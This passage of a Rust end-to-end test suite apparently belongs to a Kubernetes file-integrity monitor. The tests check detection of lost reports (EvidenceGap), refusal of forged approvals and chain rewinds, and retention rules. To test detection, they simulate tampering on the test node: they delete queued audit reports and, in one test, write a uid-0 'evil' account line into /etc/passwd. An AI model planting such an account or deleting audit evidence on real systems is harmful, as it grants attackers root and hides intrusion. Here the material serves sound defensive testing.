            "entryDigests": [{"policy": "p", "entry": "etc", "before": "v2-a", "after": after}]}})
    };
    assert_refused(
        changes(&agent)
            .patch_status(
                &name,
                &pp,
                &Patch::Merge(serde_json::json!({"status": {"entryDigests": [
                    {"policy": "p", "entry": "etc", "before": "v2-a", "after": "v2-b"}]}})),
            )
            .await,
        "this FileChange has no status.approval",
    );
    kube_fim_e2e::approve(&approver, &name, "CHG-8")
        .await
        .expect("the approver approves");
    assert_refused(
        changes(&approver)
            .patch_status(&name, &pp, &Patch::Merge(moves("v2-b")))
            .await,
        "only the node's agent answers an approval",
    );
    let answered = changes(&agent)
        .patch_status(&name, &pp, &Patch::Merge(moves("v2-b")))
        .await
        .expect("the agent answers the approval");
    assert_eq!(answered.status.unwrap().entry_digests[0].after, "v2-b");
    for rewrite in [
        moves("v2-forged"),
        serde_json::json!({"status": {"entryDigests": null}}),
    ] {
        assert_refused(
            changes(&agent)
                .patch_status(&name, &pp, &Patch::Merge(rewrite))
                .await,
            "an approval is answered once",
        );
    }
    let _ = changes(&admin).delete(&name, &Default::default()).await;
    delete_node(&admin, &node).await;
}

// Issue 21: the chain of transition numbers the cluster verifies (EvidenceGap).

/// A TCP proxy in front of the API server that the test can cut and mend:
/// one agent loses the API server while everything else keeps it.
struct Plug {
    port: u16,
    up: std::sync::Arc<std::sync::atomic::AtomicBool>,
    open: std::sync::Arc<std::sync::Mutex<Vec<std::net::TcpStream>>>,
}

impl Plug {
    fn new(target: String) -> Plug {
        use std::sync::atomic::Ordering;
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let up = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
        let open = std::sync::Arc::new(std::sync::Mutex::new(Vec::<std::net::TcpStream>::new()));
        let (up2, open2) = (up.clone(), open.clone());
        std::thread::spawn(move || {
            for client in listener.incoming() {
                let Ok(client) = client else { continue };
                if !up2.load(Ordering::SeqCst) {
                    continue;
                }
                let Ok(server) = std::net::TcpStream::connect(&target) else {
                    continue;
                };
                let mut held = open2.lock().unwrap();
                held.push(client.try_clone().unwrap());
                held.push(server.try_clone().unwrap());
                for (mut from, mut to) in [
                    (client.try_clone().unwrap(), server.try_clone().unwrap()),
                    (server, client),
                ] {
                    std::thread::spawn(move || {
                        let _ = std::io::copy(&mut from, &mut to);
                        let _ = to.shutdown(std::net::Shutdown::Both);
                        let _ = from.shutdown(std::net::Shutdown::Both);
                    });
                }
            }
        });
        Plug { port, up, open }
    }

    /// Refuses new connections and cuts the open ones.
    fn cut(&self) {
        self.up.store(false, std::sync::atomic::Ordering::SeqCst);
        for s in self.open.lock().unwrap().drain(..) {
            let _ = s.shutdown(std::net::Shutdown::Both);
        }
    }

    fn mend(&self) {
        self.up.store(true, std::sync::atomic::Ordering::SeqCst);
    }

    /// The `host:port` of the API server `kubeconfig` logs in to.
    fn server_of(kubeconfig: &std::path::Path) -> String {
        let config: serde_yaml::Value =
            serde_yaml::from_str(&std::fs::read_to_string(kubeconfig).unwrap()).unwrap();
        config["clusters"][0]["cluster"]["server"]
            .as_str()
            .unwrap()
            .trim_start_matches("https://")
            .to_string()
    }

    /// `kubeconfig` with its server replaced by this proxy.
    fn kubeconfig(&self, kubeconfig: &std::path::Path) -> (std::path::PathBuf, String) {
        let mut config: serde_yaml::Value =
            serde_yaml::from_str(&std::fs::read_to_string(kubeconfig).unwrap()).unwrap();
        let server = config["clusters"][0]["cluster"]["server"]
            .as_str()
            .unwrap()
            .to_string();
        let target = server.trim_start_matches("https://").to_string();
        config["clusters"][0]["cluster"]["server"] =
            serde_yaml::Value::String(format!("https://127.0.0.1:{}", self.port));
        let path = kubeconfig.with_extension(format!("plug-{}.yaml", self.port));
        std::fs::write(&path, serde_yaml::to_string(&config).unwrap()).unwrap();
        (path, target)
    }
}

/// A Node labelled `role=<suite>` (selected by the suite's policies), for a
/// node-bound token; no agent runs.
async fn create_selected_node(client: &kube::Client, name: &str, suite: &str) {
    let mut node = Node::default();
    node.metadata.name = Some(name.to_string());
    node.metadata.labels = Some(BTreeMap::from([("role".to_string(), suite.to_string())]));
    Api::<Node>::all(client.clone())
        .create(&PostParams::default(), &node)
        .await
        .unwrap();
}

/// A FileChange of `node` numbered `n`, named as the agent names it.
fn numbered_change(node: &str, policy: &str, n: u64) -> FileChange {
    let name = format!("{node}-{n}-{:020x}", n + 1);
    let mut fc = kube_fim_e2e::ChangeFixture::new(&name, node, policy)
        .path(&format!("/etc/sudoers.d/{n}"))
        .build();
    fc.spec.sequence = Some(n);
    fc
}

/// The numbers no FileChange of `node` carries below `head`.
async fn unstored(client: &kube::Client, node: &str, head: u64) -> Vec<u64> {
    let stored: std::collections::BTreeSet<u64> = Api::<FileChange>::all(client.clone())
        .list(&ListParams::default().fields(&format!("spec.node={node}")))
        .await
        .unwrap()
        .items
        .iter()
        .filter_map(|c| c.spec.sequence)
        .collect();
    (0..head).filter(|n| !stored.contains(n)).collect()
}

/// The verification the operator wrote on `node`'s record, once there.
async fn wait_verified(
    client: &kube::Client,
    node: &str,
    through: u64,
) -> kube_fim_crds::ChainVerification {
    eventually(
        &format!("{node} verified through {through}"),
        // An operator's first pass waits for its first list of every
        // FileChange: it has been seen to take from 40 s to over 120 s in
        // the full suite (a slow first pass not yet explained); the wait ends
        // as soon as the verification is there.
        Duration::from_secs(300),
        || async {
            let v = record(client, node)
                .await
                .status
                .and_then(|s| s.verification);
            match v {
                Some(v) if v.verified_through >= through => Ok(v),
                other => Err(format!("{other:?}")),
            }
        },
    )
    .await
}

/// The attack: reports queued on the node while it cannot reach the API
/// server are removed (their queue files deleted) and the agent restarted.
/// The baseline marked the changes reported, so they are never detected
/// again: before the chain was verified, they vanished without a trace. Now
/// the published head covers numbers that never arrive: an EvidenceGap
/// Warning Event naming the node and the missing range, the operator's gauge,
/// and the policy Degraded.
#[tokio::test]
async fn reports_removed_from_the_queue_are_an_evidence_gap_naming_their_numbers() {
    use kube_fim_e2e::operator::Operator;
    let client = client().await;
    let suite = unique_name("chain");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-etc");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("etc", "/etc", true)]))
        .await;
    let operator = Operator::start(&suite, &suite, &[]);
    let a = fleet.nodes[0].name.clone();
    let token = kube_fim_e2e::node_bound_kubeconfig(&a);
    let plug = Plug::new(Plug::server_of(&token));
    let (via_plug, _) = plug.kubeconfig(&token);
    fleet.nodes[0].start_agent_as(&via_plug, &[]);
    fleet.wait_ready(&a, &policy, READY).await;
    wait_verified(&client, &a, 0).await;
    std::fs::write(fleet.nodes[0].host("/etc/before.conf"), "x\n").unwrap();
    wait_change(&fleet, &a, "Added /etc/before.conf").await;

    plug.cut();
    for f in ["lost-1", "lost-2"] {
        std::fs::write(fleet.nodes[0].host(&format!("/etc/{f}.conf")), "evil\n").unwrap();
    }
    eventually("both reports queued on the node", SEEN, || async {
        let t = fleet.nodes[0].metrics().ok_or("no metrics")?;
        match metric(
            &t,
            &format!("kube_fim_agent_reports_queued{{node=\"{a}\"}}"),
        ) {
            Some(q) if q >= 2.0 => Ok(()),
            other => Err(format!("{other:?}")),
        }
    })
    .await;
    // The baseline marking them reported is saved right after the queue.
    tokio::time::sleep(Duration::from_secs(2)).await;
    fleet.nodes[0].kill_agent();
    let queue = fleet.nodes[0].state.join("queue");
    for e in std::fs::read_dir(&queue).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "json") {
            std::fs::remove_file(p).unwrap();
        }
    }
    plug.mend();
    let restarted = std::time::Instant::now();
    fleet.nodes[0].start_agent_as(&via_plug, &[]);

    let event = wait_warning_within(&client, "EvidenceGap", &a, Duration::from_secs(90)).await;
    let took = restarted.elapsed();
    let head = record(&client, &a).await.status.unwrap().sequence.unwrap();
    let missing = unstored(&client, &a, head).await;
    assert_eq!(missing.len(), 2, "the two lost reports: {missing:?}");
    let range = format!("{}-{}", missing[0], missing[1]);
    assert_eq!(missing[1], missing[0] + 1);
    let note = event.note.unwrap_or_default();
    assert!(note.contains(&a) && note.contains(&range), "{note}");
    for lost in ["/etc/lost-1.conf", "/etc/lost-2.conf"] {
        assert!(
            !fleet.changes(&a).await.iter().any(|c| c.spec.path == lost),
            "{lost} was not reported (the attack removed it)"
        );
    }
    let v = record(&client, &a)
        .await
        .status
        .unwrap()
        .verification
        .unwrap();
    assert_eq!(v.gaps.len(), 1, "{v:?}");
    assert_eq!(
        (v.gaps[0].first, v.gaps[0].last, v.gaps[0].reason.as_str()),
        (missing[0], missing[1], "Missing")
    );
    eventually("the gauge names the node", SEEN, || async {
        let t = operator.metrics().ok_or("no metrics")?;
        match metric(
            &t,
            &format!("kube_fim_operator_evidence_gaps{{node=\"{a}\"}}"),
        ) {
            Some(2.0) => Ok(()),
            other => Err(format!("{other:?}")),
        }
    })
    .await;
    eventually("the policy Degraded: EvidenceGap", SEEN, || async {
        let p = Api::<kube_fim_crds::FileIntegrityPolicy>::all(client.clone())
            .get(&policy)
            .await
            .map_err(|e| e.to_string())?;
        let d = p
            .status
            .and_then(|s| s.conditions.into_iter().find(|c| c.type_ == "Degraded"));
        match d {
            Some(d)
                if d.status == "True"
                    && d.reason == "EvidenceGap"
                    && d.message.contains(&range) =>
            {
                Ok(())
            }
            other => Err(format!("{other:?}")),
        }
    })
    .await;
    println!(
        "chain: EvidenceGap for numbers {range} {:.1}s after the agent restarted",
        took.as_secs_f64()
    );
    fleet.cleanup().await;
}

async fn wait_warning_within(
    client: &kube::Client,
    reason: &str,
    node: &str,
    within: Duration,
) -> Event {
    eventually(
        &format!("a {reason} warning for {node}"),
        within,
        || async {
            warnings(client, reason, node)
                .await
                .into_iter()
                .next()
                .ok_or_else(|| "none yet".to_string())
        },
    )
    .await
}

/// The node's own token can neither lower nor remove its published chain
/// head (a cluster admin cannot either), nor write the operator's
/// verification of it.
#[tokio::test]
async fn the_nodes_token_cannot_rewind_its_chain_head_or_write_its_verification() {
    use kube_fim_crds::FileIntegrityNodeSpec;
    kube_fim_e2e::ensure_crds();
    let admin = client().await;
    let suite = unique_name("chain");
    let node = format!("{suite}-a");
    create_node(&admin, &node).await;
    let agent = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&node)).await;
    let records = |c: &kube::Client| Api::<FileIntegrityNode>::all(c.clone());
    records(&agent)
        .create(
            &PostParams::default(),
            &FileIntegrityNode::new(&node, FileIntegrityNodeSpec { node: node.clone() }),
        )
        .await
        .unwrap();
    let pp = PatchParams::default();
    let status = |v: serde_json::Value| Patch::Merge(serde_json::json!({ "status": v }));
    records(&agent)
        .patch_status(
            &node,
            &pp,
            &status(serde_json::json!({"sequence": 10, "undelivered": ["7-9"]})),
        )
        .await
        .expect("the agent publishes its chain head");
    records(&agent)
        .patch_status(
            &node,
            &pp,
            &status(serde_json::json!({"sequence": 12, "undelivered": []})),
        )
        .await
        .expect("the head moves up");
    for (who, name) in [(&agent, "the agent"), (&admin, "a cluster admin")] {
        eprintln!("as {name}");
        for lower in [serde_json::json!(5), serde_json::Value::Null] {
            assert_refused(
                records(who)
                    .patch_status(&node, &pp, &status(serde_json::json!({"sequence": lower})))
                    .await,
                "status.sequence cannot be lowered or removed",
            );
        }
    }
    let forged = serde_json::json!({"verification": {
        "verifiedThrough": 12, "from": 0, "since": "2026-01-01T00:00:00Z",
    }});
    assert_refused(
        records(&agent)
            .patch_status(&node, &pp, &status(forged.clone()))
            .await,
        "status.verification is the operator's",
    );
    assert_eq!(
        record(&admin, &node).await.status.unwrap().sequence,
        Some(12)
    );
    delete_node(&admin, &node).await;
}

/// Retention deletes a numbered FileChange only once the operator verified
/// its number: while an earlier number is still queued on the node, the
/// later changes are held however old; once it arrives, retention goes on.
#[tokio::test]
async fn retention_keeps_changes_the_chain_has_not_verified() {
    use kube_fim_crds::FileIntegrityNodeSpec;
    use kube_fim_e2e::operator::{Operator, SUITE_LABEL};
    kube_fim_e2e::ensure_crds();
    let admin = client().await;
    let suite = unique_name("chain");
    let node = format!("{suite}-a");
    create_selected_node(&admin, &node, &suite).await;
    let policy = format!("{suite}-p");
    let mut p = kube_fim_e2e::Policy::named(&policy)
        .label(SUITE_LABEL, &suite)
        .node_selector("role", &suite)
        .path(kube_fim_e2e::Entry::new("etc", "/etc/sudoers"))
        .build();
    p.spec.retention.max_count = 1;
    p.spec.retention.delete_unapproved = true;
    Api::<kube_fim_crds::FileIntegrityPolicy>::all(admin.clone())
        .create(&PostParams::default(), &p)
        .await
        .unwrap();
    let agent = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&node)).await;
    let records = Api::<FileIntegrityNode>::all(agent.clone());
    records
        .create(
            &PostParams::default(),
            &FileIntegrityNode::new(&node, FileIntegrityNodeSpec { node: node.clone() }),
        )
        .await
        .unwrap();
    let publish = |head: u64, undelivered: &[&str]| {
        let records = records.clone();
        let node = node.clone();
        let body = serde_json::json!({"status": {"sequence": head, "undelivered": undelivered}});
        async move {
            records
                .patch_status(&node, &PatchParams::default(), &Patch::Merge(body))
                .await
                .unwrap();
        }
    };
    publish(0, &[]).await;
    let _operator = Operator::start(&suite, &suite, &["--resync=2s".to_string()]);
    wait_verified(&admin, &node, 0).await;

    // Numbers 0, 2 and 3 stored; 1 still queued on the node.
    let changes = Api::<FileChange>::all(agent.clone());
    for n in [0, 2, 3] {
        changes
            .create(&PostParams::default(), &numbered_change(&node, &policy, n))
            .await
            .unwrap();
        tokio::time::sleep(Duration::from_millis(1100)).await;
    }
    publish(4, &["1"]).await;
    let names = || async {
        let mut v: Vec<u64> = Api::<FileChange>::all(admin.clone())
            .list(&ListParams::default().fields(&format!("spec.node={node}")))
            .await
            .unwrap()
            .items
            .iter()
            .filter_map(|c| c.spec.sequence)
            .collect();
        v.sort();
        v
    };
    eventually(
        "the verified number deleted",
        Duration::from_secs(120),
        || async {
            let left = names().await;
            (left == [2, 3]).then_some(()).ok_or(format!("{left:?}"))
        },
    )
    .await;
    // Several passes (every 2 s): the unverified number 2 is held.
    tokio::time::sleep(Duration::from_secs(6)).await;
    assert_eq!(names().await, [2, 3], "an unverified change was deleted");
    let v = wait_verified(&admin, &node, 1).await;
    assert!(v.gaps.is_empty(), "a queued number is no gap: {v:?}");

    // Number 1 arrives: verified through 4, retention goes on.
    changes
        .create(&PostParams::default(), &numbered_change(&node, &policy, 1))
        .await
        .unwrap();
    publish(4, &[]).await;
    wait_verified(&admin, &node, 4).await;
    eventually(
        "retention down to the newest",
        Duration::from_secs(90),
        || async {
            let left = names().await;
            (left == [1]).then_some(()).ok_or(format!("{left:?}"))
        },
    )
    .await;
    assert!(warnings(&admin, "EvidenceGap", &node).await.is_empty());
    Api::<kube_fim_crds::FileIntegrityPolicy>::all(admin.clone())
        .delete(&policy, &Default::default())
        .await
        .unwrap();
    for n in names().await {
        let _ = Api::<FileChange>::all(admin.clone())
            .delete(
                &numbered_change(&node, &policy, n).name_any(),
                &Default::default(),
            )
            .await;
    }
    delete_node(&admin, &node).await;
}

/// A wiped state directory loses the node's counter, not the cluster's:
/// the agent numbers on after the head it published (no number, no name
/// given twice, no rewind for admission to refuse), the wipe is the
/// BaselineMissing alarm, and the verifier sees no gap and no rewind.
#[tokio::test]
async fn a_wiped_node_numbers_on_after_its_published_head() {
    use kube_fim_e2e::operator::Operator;
    let client = client().await;
    let suite = unique_name("chain");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-etc");
    fleet
        .create_policy(&fleet.policy(
            &policy,
            vec![
                entry("passwd", "/etc/passwd", false),
                entry("ssh", "/etc/ssh", true),
            ],
        ))
        .await;
    let _operator = Operator::start(&suite, &suite, &[]);
    let a = fleet.nodes[0].name.clone();
    fleet.nodes[0].start_agent();
    fleet.wait_ready(&a, &policy, READY).await;
    wait_verified(&client, &a, 0).await;
    for f in ["one", "two"] {
        std::fs::write(fleet.nodes[0].host(&format!("/etc/ssh/{f}.conf")), "x\n").unwrap();
        wait_change(&fleet, &a, &format!("Added /etc/ssh/{f}.conf")).await;
    }
    let head = eventually("the head published", SEEN, || async {
        let s = record(&client, &a).await.status.unwrap_or_default();
        match s.sequence {
            Some(h) if h >= 2 => Ok(h),
            other => Err(format!("{other:?}")),
        }
    })
    .await;
    wait_verified(&client, &a, head).await;
    fleet.nodes[0].kill_agent();
    let state = fleet.nodes[0].state.clone();
    for e in std::fs::read_dir(&state).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            std::fs::remove_dir_all(p).unwrap();
        } else {
            std::fs::remove_file(p).unwrap();
        }
    }
    std::fs::write(
        fleet.nodes[0].host("/etc/passwd"),
        "evil:x:0:0::/:/bin/sh\n",
    )
    .unwrap();
    fleet.nodes[0].start_agent();
    wait_warning(&client, "BaselineMissing", &a).await;
    let c = wait_change(&fleet, &a, "Modified /etc/passwd").await;
    let n = c.spec.sequence.unwrap();
    assert!(n >= head, "numbered {n}, below the published head {head}");
    let v = wait_verified(&client, &a, n + 1).await;
    assert!(v.gaps.is_empty(), "{v:?}");
    assert!(warnings(&client, "EvidenceGap", &a).await.is_empty());
    fleet.cleanup().await;
}
